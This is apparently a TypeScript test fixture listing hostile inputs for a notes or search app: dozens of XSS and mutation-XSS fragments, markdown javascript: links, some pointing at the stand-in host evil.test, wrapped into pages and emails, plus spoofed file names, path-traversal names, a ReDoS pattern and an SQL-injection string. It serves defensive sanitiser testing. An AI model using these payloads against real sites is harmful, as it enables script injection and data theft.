/** Where an attack that worked would call: never answered, always written down. */
const FOREIGN = 'https://evil.test';
/** What an attack that worked would run. */
const RUN = 'window.pwned=(window.pwned||0)+1';

/** Fragments that try to run a script, to load something from elsewhere, or to change the page. */
export const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${FOREIGN}/1.js"></script>`,
  `<SCRIPT/XSS SRC="${FOREIGN}/2.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${FOREIGN}/3.png">`,
  `<img srcset="${FOREIGN}/4.png 1x, ${FOREIGN}/5.png 2x">`,
  `<img/src='x'onerror=${RUN}//`,
  `<picture><source srcset="${FOREIGN}/6.webp"><img src="${FOREIGN}/7.jpg"></picture>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="${FOREIGN}/8.svg#a"/></svg>`,
  `<svg><image href="${FOREIGN}/9.png"/><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">press</text></a></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="${FOREIGN}/10.html"></iframe>`,
  `<iframe srcdoc="<img src=${FOREIGN}/11.png onerror=parent.${RUN}>"></iframe>`,
  `<object data="${FOREIGN}/12.swf"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<applet code="${FOREIGN}/13.class"></applet>`,
  `<body onload="${RUN}" background="${FOREIGN}/14.png">`,
  `<meta http-equiv="refresh" content="0;url=${FOREIGN}/15.html">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${FOREIGN}/">`,
  `<link rel="stylesheet" href="${FOREIGN}/16.css">`,
  `<link rel="prefetch" href="${FOREIGN}/17.html"><link rel="dns-prefetch" href="//evil.test">`,
  `<style>@import url("${FOREIGN}/18.css"); body { background: url(${FOREIGN}/19.png) }</style>`,
  `<div style="background-image:url(${FOREIGN}/20.png);position:fixed;inset:0;z-index:9999">cover</div>`,
  `<form action="${FOREIGN}/21"><input name=a autofocus onfocus="${RUN}"><button>send</button></form>`,
  `<input type="image" src="${FOREIGN}/22.png" formaction="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="java\tscript:${RUN}">press</a>`,
  `<a href="&#106;avascript:${RUN}">press</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">press</a>`,
  `<a ping="${FOREIGN}/23" href="#">ping</a>`,
  `<video poster="${FOREIGN}/24.png" src="${FOREIGN}/25.mp4" onerror="${RUN}" autoplay></video>`,
  `<audio src="${FOREIGN}/26.mp3" autoplay oncanplay="${RUN}"></audio>`,
  `<track src="${FOREIGN}/27.vtt" kind=subtitles default>`,
  `<marquee onstart="${RUN}">moving</marquee>`,
  `<details open ontoggle="${RUN}"><summary>open</summary></details>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<img id="hearth"><form id="body" name="cookie"><input name="parentNode"></form>`,
  `![picture](${FOREIGN}/28.png)`,
  `![picture](javascript:${RUN})`,
  `[press](javascript:${RUN})`,
  `[press](JaVaScRiPt:${RUN})`,
  `[press](data:text/html,<script>${RUN}</script>)`,
  `[press](vbscript:msgbox(1))`,
  `[a]: javascript:${RUN}\n[a]`,
  `<javascript:${RUN}>`,
  `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``,
  `[[<img src=x onerror=${RUN}>]] ![[${FOREIGN}/29.png]]`,
  `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n|---|---|\n| a | b |`,
  `"><img src=x onerror=${RUN}><"`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}}`,
];

/** A page of the web that holds it. */
export const pageOf = (fragment: string, at: number): string =>
  `<!doctype html><html><head><title>Page ${at} ${fragment}</title></head><body><p>Harbour page ${at} before.</p>${fragment}<p>After it.</p></body></html>`;

const inHeader = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;

/** A mail that holds it as its sender, its subject and its text. */
export const mailOf = (fragment: string, at: number): string =>
  [
    `From: ${inHeader(fragment)} <mallory@evil.test>`,
    'To: me@example.org',
    `Subject: ${inHeader(`Harbour mail ${at} ${fragment}`)}`,
    'Date: Mon, 3 Mar 2025 10:00:00 +0000',
    'Content-Type: text/html; charset=utf-8',
    '',
    pageOf(fragment, at),
  ].join('\r\n');

/** Names that break out of markup or look like something else. */
export const HOSTILE_NAMES: readonly string[] = [
  `"><img src=x onerror=${RUN}>.md`,
  `<svg onload=${RUN}>.md`,
  `' onmouseover='${RUN}.md`,
  '\u202Egnp.exe\u202C.md',
  '__proto__.md',
  'constructor.md',
  '%2e%2e%2fescape.md',
  'a&lt;b&amp;c.md',
  '𝕳𝖔𝖘𝖙𝖎𝖑𝖊 🧨.md',
];

export const HOSTILE_QUERIES: readonly (readonly [name: string, query: string])[] = [
  ['of 100,000 characters', 'harbour '.repeat(12_500)],
  ['that is one word of 100,000 characters', 'x'.repeat(100_000)],
  ['of 50,000 open quotation marks', '"a '.repeat(33_000)],
  ['of operators alone', '- * " -"" --- *** tag: kind: in: -tag: "" -* :::'],
  ['of control characters', Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('harbour')],
  ['with right-to-left marks', '\u202Eharbour\u202C \u200F\u200Fשלום\u200E \u2066x\u2069'],
  ['of lone surrogates', '\uD800 harbour \uDFFF\uDC00'],
  ['of combining marks', `h${'\u0301'.repeat(5_000)}arbour`],
  ['that looks like a pattern', '(a+)+$ .*.*.*.* [a-z]{1,9999} \\'],
  ['that looks like SQL', "'; DROP TABLE items; -- %_\\"],
  ['that looks like markup', `<img src=x onerror=${RUN}>`],
];

/** Page-side: whether anything of it ran. */
export const ranAnything = (): boolean => 'pwned' in window;
